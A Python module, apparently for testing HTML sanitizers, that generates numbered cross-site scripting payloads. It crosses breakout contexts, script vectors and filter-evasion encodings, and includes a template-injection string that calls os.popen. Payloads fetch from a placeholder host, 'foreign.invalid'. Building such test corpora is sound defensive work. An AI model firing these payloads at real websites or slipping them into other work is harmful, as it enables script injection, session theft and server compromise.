"""Shapes of script injection, made by rule: where the words may land, what runs there, and how it may be written.

Every payload carries its number, so that a dialog, a mark on the window or a request tells which one ran. They are
made by crossing three short lists, not taken from one, so that a new context or vector is one more row.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from html import escape
from urllib.parse import quote

FOREIGN = "foreign.invalid"
"""The host that payloads ask for; a request to it is a failure."""

# What ends the place where the words stand, so that what follows is markup of its own.
CONTEXTS: dict[str, str] = {
    "text": "",
    "double quoted attribute": '">',
    "single quoted attribute": "'>",
    "unquoted attribute": " >",
    "inside a tag": "/>",
    "isolate": "</bdi>",
    "title": "</title>",
    "text field": "</textarea>",
    "choice": "</option></select>",
    "style": "</style>",
    "script": "</script>",
    "comment": "-->",
    "character data": "]]>",
    "no script": "</noscript>",
    "data island": '"}]}</script>',
    "table cell": "</td></tr></table>",
}


def _run(n: int) -> str:
    """The script of a payload: a dialog, a mark, and a request, whichever is seen first."""
    return f"alert({n});window.ran={n};fetch('//{FOREIGN}/{n}')"


# What runs, or asks for something foreign, once it is markup.
VECTORS: dict[str, Callable[[int], str]] = {
    "script": lambda n: f"<script>{_run(n)}</script>",
    "foreign script": lambda n: f"<script src=//{FOREIGN}/{n}.js></script>",
    "module": lambda n: f'<script type=module>import "//{FOREIGN}/{n}.js"</script>',
    "broken picture": lambda n: f'<img src=x onerror="{_run(n)}">',
    "foreign picture": lambda n: f"<img src=//{FOREIGN}/{n}.png>",
    "drawing": lambda n: f'<svg onload="{_run(n)}">',
    "drawing with script": lambda n: f"<svg><script>{_run(n)}</script></svg>",
    "moving drawing": lambda n: f'<svg><animate onbegin="{_run(n)}" attributeName=x dur=1s>',
    "drawing by reference": lambda n: f'<svg><use href="//{FOREIGN}/{n}.svg#x"></use></svg>',
    "foreign object": lambda n: f'<svg><foreignObject><img src=x onerror="{_run(n)}"></foreignObject></svg>',
    "formula": lambda n: (
        f'<math><maction actiontype="statusline" xlink:href="javascript:alert({n})">x</maction></math>'
    ),
    "opened details": lambda n: f'<details open ontoggle="{_run(n)}">',
    "focus": lambda n: f'<input autofocus onfocus="{_run(n)}">',
    "frame": lambda n: f'<iframe srcdoc="<script>parent.{_run(n)}</script>"></iframe>',
    "script address in a frame": lambda n: f'<iframe src="javascript:{_run(n)}"></iframe>',
    "foreign frame": lambda n: f"<iframe src=//{FOREIGN}/{n}></iframe>",
    "object": lambda n: f'<object data="//{FOREIGN}/{n}"></object>',
    "embedded": lambda n: f'<embed src="//{FOREIGN}/{n}">',
    "style sheet": lambda n: f'<link rel=stylesheet href="//{FOREIGN}/{n}.css">',
    "fetched before": lambda n: (
        f'<link rel=prefetch href="//{FOREIGN}/{n}"><link rel=dns-prefetch href="//{FOREIGN}">'
    ),
    "style": lambda n: f"<style>@import '//{FOREIGN}/{n}.css';*{{background:url(//{FOREIGN}/{n})}}</style>",
    "style attribute": lambda n: f'<b style="background:url(//{FOREIGN}/{n})">x</b>',
    "refresh": lambda n: f'<meta http-equiv=refresh content="0;url=//{FOREIGN}/{n}">',
    "base": lambda n: f'<base href="//{FOREIGN}/{n}/">',
    "sound": lambda n: f'<audio src=x onerror="{_run(n)}">',
    "film source": lambda n: f'<video><source onerror="{_run(n)}"></video>',
    "moving words": lambda n: f'<marquee onstart="{_run(n)}">x</marquee>',
    "shadow": lambda n: f'<div><template shadowrootmode=open><img src=x onerror="{_run(n)}"></template></div>',
    "form": lambda n: f'<form action="//{FOREIGN}/{n}"><button autofocus>x</button></form>',
    "page transition": lambda n: f'<xss onanimationstart="{_run(n)}" style="animation:a 1s">x',
}

# What runs without a tag of its own: in an attribute, an address, a string of a script, or a template.
BARE: dict[str, Callable[[int], str]] = {
    "attribute, double quoted": lambda n: f'" autofocus onfocus="{_run(n)}" x="',
    "attribute, single quoted": lambda n: f"' autofocus onfocus='alert({n})' x='",
    "attribute, unquoted": lambda n: f"x onpointerover=alert({n}) autofocus onfocus=alert({n})",
    "address": lambda n: f"javascript:{_run(n)}",
    "address with a remark": lambda n: f"javascript://%0a{_run(n)}",
    "data address": lambda n: f"data:text/html,<script>{_run(n)}</script>",
    "old address": lambda n: f"vbscript:alert({n})",
    "string, single quoted": lambda n: f"';{_run(n)};//",
    "string, double quoted": lambda n: f'";{_run(n)};//',
    "string, backslash": lambda n: f'\\";{_run(n)};//',
    "string, other line end": lambda n: f"\u2028{_run(n)}\u2029//",
    "string template": lambda n: f"${{{_run(n)}}}",
    "template": lambda n: f"{{{{ cycler.__init__.__globals__.os.popen('echo {n}').read() }}}}",
    "template block": lambda n: f"{{% include '//{FOREIGN}/{n}' %}}",
    "message form": lambda n: f"{{user.__class__}}{{0.__globals__}}{n}",
    "selector": lambda n: f"'] , * {{ background: url(//{FOREIGN}/{n}) }} x['",
}


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


# How the same may be written: what a filter may let through and a browser, or a second decoding, read as the plain one.
WRITINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda p: p,
    "capitals": lambda p: p.replace("script", "ScRiPt").replace("on", "oN", 1),
    "escaped once": escape,
    "escaped twice": lambda p: escape(escape(p)),
    "numbers": _entities,
    "percent": quote,
    "percent twice": lambda p: quote(quote(p)),
    "script escapes": lambda p: p.replace("<", "\\u003c").replace(">", "\\x3e"),
    "tab in words": lambda p: (
        p.replace("javascript", "java\tscript").replace("<svg", "<svg\t").replace("<img", "<img\t")
    ),
    "line in tag": lambda p: p.replace("<script", "<script\n").replace(" on", "\non"),
    "slash in tag": lambda p: p.replace("<img ", "<img/").replace("<svg ", "<svg/").replace("<script", "<script/x"),
    "wide letters": lambda p: p.replace("<", "＜").replace(">", "＞"),
    "split tag": lambda p: p.replace("<script", "<scr<script>ipt").replace("<img", "<<img"),
    "unfinished": lambda p: p.rstrip(">"),
    "turned": lambda p: f"\u202e{p}\u202c",
    "in Arabic": lambda p: f"«أفرجت {p} عن»",
}


def payloads() -> list[str]:
    """Every payload: each vector in each context plainly, and each vector and bare one in each writing; all distinct."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    n = 0
    for end in CONTEXTS.values():
        for vector in VECTORS.values():
            n += 1
            yield end + vector(n)
    for write in WRITINGS.values():
        for vector in (*VECTORS.values(), *BARE.values()):
            n += 1
            yield write(vector(n))
